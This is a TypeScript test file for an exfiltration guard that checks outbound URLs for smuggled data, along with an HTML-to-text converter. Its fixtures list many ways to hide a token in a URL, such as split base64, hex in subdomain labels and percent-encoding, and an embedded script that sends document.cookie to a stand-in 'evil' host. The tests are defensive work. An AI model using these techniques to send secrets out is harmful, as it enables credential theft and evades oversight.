import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { checkOutboundData, dataCarried, htmlToText, isNewHost } from '../../../src/core/web';

describe('isNewHost / data to a new host', () => {
  const known = ['docs.example.com', 'https://api.example.org:8443/v1'];
  test('host comparison folds case, trailing dots and ports', () => {
    assert.equal(isNewHost('https://DOCS.example.com./a', known), false);
    assert.equal(isNewHost('http://api.example.org/x', known), false);
    assert.equal(isNewHost('https://evil.example.net/', known), true);
    assert.equal(isNewHost('https://docs.example.com.evil.net/', known), true);
    assert.equal(isNewHost('not a url', known), true);
  });
  test('data carriers: long query, long value, long path segment, long host label', () => {
    assert.match(dataCarried(`https://x.test/?d=${'A1b2'.repeat(20)}`)!, /random-looking/);
    assert.match(dataCarried(`https://x.test/?k=${'QUtJQTEyMzQ1Njc4OTBBQkNERUY='.repeat(2)}`)!, /random-looking/);
    assert.match(dataCarried(`https://x.test/${'a1b2'.repeat(20)}/x`)!, /random-looking/);
    assert.match(dataCarried(`https://${'c2VjcmV0'.repeat(5)}.x.test/`)!, /random-looking/);
    assert.match(dataCarried('https://u:p@x.test/')!, /credentials/);
    assert.equal(dataCarried('https://x.test/docs/page?lang=en'), undefined);
  });

  // The whole URL is judged. The same secret in every shape an attacker can split it into.
  const secret = 'tok_live_51Hx7c2eZvKYlo2C9s8dQx0a';
  const b64 = Buffer.from(`deploy token: ${secret}`).toString('base64url');
  const hex = Buffer.from(secret).toString('hex');
  const chunks = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!;
  const attacks: [string, string][] = [
    ['one query value', `https://x.test/c?d=${b64}`],
    ['2 path segments', `https://x.test/${chunks(b64, Math.ceil(b64.length / 2)).join('/')}`],
    ['5 path segments', `https://x.test/${chunks(b64, Math.ceil(b64.length / 5)).join('/')}`],
    ['20 path segments', `https://x.test/${chunks(b64, Math.ceil(b64.length / 20)).join('/')}`],
    ['one character per segment', `https://x.test/${[...secret].join('/')}`],
    [
      '20 query parameters',
      `https://x.test/?${chunks(b64, 3)
        .map((c, i) => `p${i}=${c}`)
        .join('&')}`,
    ],
    [
      'repeated key',
      `https://x.test/?${chunks(secret, 2)
        .map((c) => `a=${c}`)
        .join('&')}`,
    ],
    ['fragment', `https://x.test/a#${hex}`],
    ['hex in path and query', `https://x.test/${hex.slice(0, 30)}/x?y=${hex.slice(30)}`],
    ['subdomain labels', `https://${chunks(hex, 30).join('.')}.x.test/`],
    ['percent-encoded bytes', `https://x.test/${[...Buffer.from(secret)].map((b) => `%${b.toString(16)}`).join('')}`],
    ['decimal digits in triples', `https://x.test/${chunks(BigInt(`0x${hex}`).toString(), 3).join('/')}`],
    ['mixed path, query, fragment, label', `https://${hex.slice(0, 16)}.x.test/${b64.slice(0, 12)}?q=${b64.slice(12, 30)}#${b64.slice(30)}`],
    ['the raw secret in pieces', `https://x.test/s/tok/live/51Hx7c2e/ZvKYlo2C/9s8dQx0a`],
    ['an AWS-style key', 'https://x.test/?q=AKIAIOSFODNN7EXAMPLE'],
    [
      'a long run of words',
      `https://x.test/${'alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu one two three four'.split(' ').join('/')}`,
    ],
    // Fails closed: a full commit hash is 160 bits a model could have chosen; pinned links ask once per host.
    ['a full commit hash', 'https://github.com/microsoft/vscode/blob/3f2a9c1d7e5b4a6f8c0d2e4f6a8b0c1d3e5f7a9b/src/vs/base/common/strings.ts'],
  ];
  for (const [name, url] of attacks) {
    test(`attack carries data: ${name}`, () => {
      assert.ok(dataCarried(url), url);
      assert.equal(checkOutboundData(url, known).verdict, 'ask', url);
    });
  }
  const benign = [
    'https://nodejs.org/api/fs.html#fspromisesreadfilepath-options',
    'https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/flatMap',
    'https://github.com/microsoft/vscode/blob/main/src/vs/base/common/strings.ts',
    'https://github.com/microsoft/vscode-copilot-chat/blob/main/src/platform/tasks/common/tasksService.ts#L10-L42',
    'https://www.google.com/search?q=how+to+parse+json+in+typescript',
    'https://duckduckgo.com/?q=how+to+x',
    'https://docs.python.org/3/library/concurrent.futures.html#concurrent.futures.ProcessPoolExecutor',
    'https://stackoverflow.com/questions/14220321/how-do-i-return-the-response-from-an-asynchronous-call',
    'https://en.wikipedia.org/wiki/Regular_expression',
    'https://www.npmjs.com/package/@types/node',
    'https://docs.rs/serde/latest/serde/de/trait.Deserialize.html',
  ];
  for (const url of benign) {
    test(`documentation URL goes to a new host without asking: ${url}`, () => {
      assert.equal(dataCarried(url), undefined);
      assert.equal(checkOutboundData(url, known).verdict, 'allow');
    });
  }
  test('ask only when data goes to a new host', () => {
    const exfil = `https://x.test/?d=${'s'.repeat(100)}`;
    assert.equal(checkOutboundData(exfil, known).verdict, 'ask');
    assert.equal(checkOutboundData(exfil, ['x.test']).verdict, 'allow');
    assert.equal(checkOutboundData('https://x.test/a', known).verdict, 'allow');
  });
});

describe('HTML to text', () => {
  test('drops scripts, styles and comments; keeps headings, lists and links', () => {
    const html = `<!doctype html><html><head><title>Doc &amp; Co</title><style>body{color:red}</style>
      <script>fetch("https://evil/?"+document.cookie)</script></head>
      <body><nav><a href="/home">Home</a></nav><!-- secret comment -->
      <h1>Install</h1><p>Run   <code>npm  i</code>&nbsp;now.</p>
      <h2>Links</h2><ul><li><a href="https://a.test/x">A site</a></li><li><a href="javascript:alert(1)">bad</a></li></ul>
      <noscript>enable js</noscript><p>x &lt; y &#x26; z &#169;</p></body></html>`;
    const text = htmlToText(html, 'https://docs.test/guide/');
    assert.match(text, /^Doc & Co/);
    assert.match(text, /# Install/);
    assert.match(text, /## Links/);
    assert.match(text, /Home \(https:\/\/docs\.test\/home\)/);
    assert.match(text, /- A site \(https:\/\/a\.test\/x\)/);
    assert.match(text, /Run npm i now\./);
    assert.match(text, /x < y & z ©/);
    assert.doesNotMatch(text, /fetch|color:red|secret comment|enable js|javascript:/);
    assert.match(text, /- bad/);
  });
  test('keeps <pre> whitespace and a stray "<" in text', () => {
    const text = htmlToText('<p>if a < b then</p><pre>  line1\n    line2</pre><p>after</p>');
    assert.match(text, /if a < b then/);
    assert.match(text, /  line1\n    line2/);
  });
  test('unterminated script and broken markup do not leak script text', () => {
    assert.equal(htmlToText('<p>ok</p><script>var x = "<p>not text</p>"'), 'ok');
    assert.equal(htmlToText('<p>a<b>b</p>c'), 'ab\n\nc');
  });
});
